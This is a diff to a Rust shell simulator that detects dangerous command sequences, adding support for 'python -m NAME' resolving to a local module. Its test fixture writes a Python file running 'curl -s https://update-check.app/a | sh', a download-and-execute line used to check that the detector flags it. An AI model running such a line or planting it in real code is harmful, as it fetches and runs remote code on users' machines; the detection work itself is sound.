@@ -1859,6 +1859,22 @@ impl<'a> Shell<'a> {
         }
     }
 
+    /// The lab's file `python -m NAME` runs from the working directory,
+    /// when `-m` comes before any other word and such a file exists.
+    fn local_module(&self, args: &[Arg]) -> Option<String> {
+        let at = args.iter().position(|a| !a.text.starts_with('-') || a.text == "-m")?;
+        if args[at].text != "-m" {
+            return None;
+        }
+        let path = args.get(at + 1)?.text.replace('.', "/");
+        [format!("{path}.py"), format!("{path}/__main__.py")]
+            .into_iter()
+            .find(|f| {
+                let p = self.state.resolve(world::normalize(&self.path(f)));
+                self.state.files.contains_key(&p)
+            })
+    }
+
     /// A file a program reads its code from; the standard input's names
     /// (`/dev/stdin`, `/dev/fd/0`, `/proc/self/fd/0`, `-`) are the stream.
     fn read_input(&mut self, path: &str, stdin: &Stream) -> Stream {
@@ -2071,6 +2087,15 @@ impl<'a> Shell<'a> {
     /// environment it opens, the URLs it names, and whether it sends or runs what
     /// it fetched.
     fn script(&mut self, prog: &str, args: &[Arg], stdin: Stream, depth: u8) -> Stream {
+        // `python -m NAME` (Python's command line documentation): the
+        // module found first on the path, the working directory's before
+        // the installed ones: `NAME.py`, or a package's `__main__.py`
+        // (`a.b` is `a/b`).
+        if prog.starts_with("python") {
+            if let Some(file) = self.local_module(args) {
+                return self.script(prog, &[Arg::plain(&file)], stdin, depth);
+            }
+        }
         let (code, remote) = match Self::inline_code(prog, args) {
             Ok(c) => c,
             Err(usize::MAX) => (String::new(), None),
@@ -6406,6 +6431,27 @@ mod tests {
             vec![write("tool", &py), "./tool".to_string()],
             vec![write("tool", &py), "chmod +x tool && ./other".to_string()],
         ] {
+            assert!(!last_line_goals(&route).contains(&DownloadExecute), "{route:?}");
+        }
+    }
+
+    /// `python -m NAME` runs the working directory's `NAME.py` (`a.b`:
+    /// `a/b.py`) or package `NAME/__main__.py` when the lab holds one.
+    #[test]
+    fn slo_11_lab_runs_a_local_module_python_m_names() {
+        use super::super::damage::Goal::DownloadExecute;
+        let code = "import os\nos.system(\"curl -s https://update-check.app/a | sh\")";
+        let write = |f: &str| format!("mkdir -p tools app && cat > {f} <<'EOF'\n{code}\nEOF");
+        for (file, line) in [
+            ("setup.py", "python3 -m setup"),
+            ("tools/gen.py", "python3 -u -m tools.gen"),
+            ("app/__main__.py", "python -m app --help"),
+        ] {
+            let route = vec![write(file), line.to_string()];
+            assert!(last_line_goals(&route).contains(&DownloadExecute), "{route:?}");
+        }
+        for line in ["python3 -m pytest", "python3 -m setupx", "python3 x.py -m setup"] {
+            let route = vec![write("setup.py"), line.to_string()];
             assert!(!last_line_goals(&route).contains(&DownloadExecute), "{route:?}");
         }
     }
